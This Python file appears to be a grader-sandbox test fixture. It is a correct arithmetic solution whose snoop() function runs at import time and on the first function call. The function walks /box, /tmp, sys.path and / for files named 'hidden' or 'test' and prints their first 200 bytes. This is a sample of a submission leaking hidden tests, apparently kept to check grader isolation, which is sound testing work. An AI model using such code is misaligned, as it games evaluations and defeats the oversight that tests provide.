# Correct, but at import time and again in the first function a test
# calls (what the test captures) it hunts for test files (any name with
# "hidden" or "test") and prints their first 200 bytes. It still gets every
# point; the hidden test file is present only during its own group's run.
import os
import sys

SKIP = {"/proc", "/sys", "/dev", "/run"}


def snoop():
    seen, visited = 0, set()
    path = [p for p in sys.path if p and not p.startswith("/usr")]
    libs = [p for p in sys.path if p.startswith("/usr")]
    roots = [os.getcwd(), "/box", "/tmp/gv-files"] + path + ["/tmp", "/"] + libs
    for root in roots:
        if not os.path.isdir(root):
            continue
        base = root.rstrip("/").count("/")
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath in visited or dirpath in SKIP or dirpath.count("/") - base >= 3:
                dirnames[:] = []
            if dirpath in visited:
                continue
            visited.add(dirpath)
            for name in filenames:
                if "hidden" not in name and "test" not in name:
                    continue
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        head = f.read(200)
                except OSError:
                    continue
                print("SNOOP", os.path.join(dirpath, name), head, flush=True)
                seen += 1
                if seen >= 200:
                    return
            if root == "/":
                dirnames[:] = []


snoop()
_snooped = False


def snoop_once():
    global _snooped
    if not _snooped:
        _snooped = True
        snoop()


def add(a, b):
    snoop_once()
    return a + b


def sub(a, b):
    snoop_once()
    return a - b


def mul(a, b):
    snoop_once()
    return a * b


def factorial(n):
    snoop_once()
    result = 1
    for i in range(2, n + 1):
        result *= i
    return result


def is_prime(n):
    snoop_once()
    if n < 2:
        return False
    i = 2
    while i * i <= n:
        if n % i == 0:
            return False
        i += 1
    return True


class Counter:
    def __init__(self):
        self.count = 0

    def inc(self):
        self.count += 1

    def value(self):
        return self.count
